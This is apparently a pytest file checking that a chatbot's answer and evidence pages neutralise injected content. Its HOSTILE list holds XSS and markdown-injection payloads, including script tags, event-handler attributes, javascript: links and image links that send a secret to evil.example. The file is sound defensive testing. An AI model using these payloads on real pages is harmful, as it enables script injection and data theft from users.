import re
from dataclasses import replace

import pytest

from chatbot.answer import Answer, Assistant, Citation, Part
from chatbot.page.evidence import evidence_html, whole_html
from chatbot.page.render import answer_html, question_html
from chatbot.why import Removed, Why
from knowledge.documents import Chunk, Hit, Link

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=SECRET)",
    "![x][1]\n\n[1]: http://evil.example/",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="http://evil.example" ping="http://evil.example">x</a>',
    '<div style="background:url(http://evil.example)">x</div>',
    # harmless until something reads them a second time
    "&lt;img src=x onerror=alert(1)&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "[click](&#106;avascript:alert(1))",
    "`</code><img src=x onerror=alert(1)>`",
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    '```python\n"""</span><script>alert(1)</script>"""\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) ![b](http://evil.example) |",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\href{javascript:alert(1)}{x} \style{background:url(http://evil.example)}{y} \class{z}{z}$$",
    r"\(\text{</math><script>alert(1)</script>}\) \[\unicode{x3c}script\unicode{x3e}\]",
    r'$\color{red" onload=alert(1)}{x}$ $\mathop{</mrow><svg onload=alert(1)>}$',
    "&lt;script&gt;alert(1)&lt;/script&gt; `<img src=x onerror=alert(1)>`",
    '⁅<img src=x⁆ onerror=alert(1)> [⁆](http://evil.example/⁅"onclick=alert(1))',
    '[x](http://evil.example/"onmouseover=alert(1)) [y](//evil.example/y.png) [z](vbscript:x)',
]


def active(html):
    """Elements and attributes that could load or run something."""
    tags = re.findall(r"<\s*(\w+)([^>]*)>", html)
    allowed = {"div", "p", "ul", "ol", "li", "a", "code", "pre", "em", "strong", "h2", "h3", "h4", "details", "summary"}
    allowed |= {"article", "section", "button", "span", "mark", "br", "table", "thead", "tbody", "tr", "th", "td"}
    allowed |= {"math", "mi", "mn", "mo", "mrow", "mtext", "mstyle", "mspace"}
    found = [tag for tag, _ in tags if tag not in allowed]
    for _, attributes in tags:
        names = re.sub(r'"[^"]*"', '""', attributes)
        found += re.findall(r"\b(?:on\w+|src|ping|style)\s*=", names)
        found += [url for url in re.findall(r'href="([^"]*)"', attributes) if not re.match(r"https?://|#passage-", url)]
    return found


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_a_note_becomes_active(hostile):
    chunk = Chunk(
        hostile, hostile, (hostile,), (1, 2), hostile, links=(Link(hostile, hostile), Link("x", "javascript:1"))
    )
    beside = replace(chunk, heading_path=("not cited", hostile))
    answer = Answer(
        hostile,
        state="done",
        parts=(
            *(Part(kind, hostile, 1, url=hostile) for kind in ("say", "quote", "code", "link", "note")),
            Part("table", hostile, 1, rows=((hostile, "b"), (hostile, hostile))),
        ),
        citations=(Citation(1, chunk, ((0, len(hostile)),)),),
        why=Why(
            hostile,
            (Hit(chunk, 0.5), Hit(beside, 0.5)),
            None,
            (Removed(hostile, hostile),),
        ),
    )
    panel = evidence_html(answer, 0, {hostile: hostile})
    whole = whole_html(answer.citations[0], 0, [chunk], hostile, hostile)
    for html in (answer_html(answer, 0, True), panel, whole, question_html(hostile, 0)):
        assert active(html) == []


def test_hostile_notes_stay_words_from_file_to_page(add, store, settings):
    add("## Attack <img src=x onerror=alert(1)>\n" + "\n\n".join(HOSTILE) + "\n")
    answer = Assistant(store, settings, "extract").answer("attack img")
    assert answer.citations
    assert active(answer_html(answer, 0, True) + evidence_html(answer, 0, {})) == []


def test_an_answer_is_one_line_with_its_code_whole():
    html = answer_html(Answer("q", state="done", parts=(Part("code", "```\na\n\nb\n```", 1),)), 3, True)
    assert "\n" not in html
    assert "a&#10;&#10;b" in html
    assert 'href="#passage-3-1"' in html
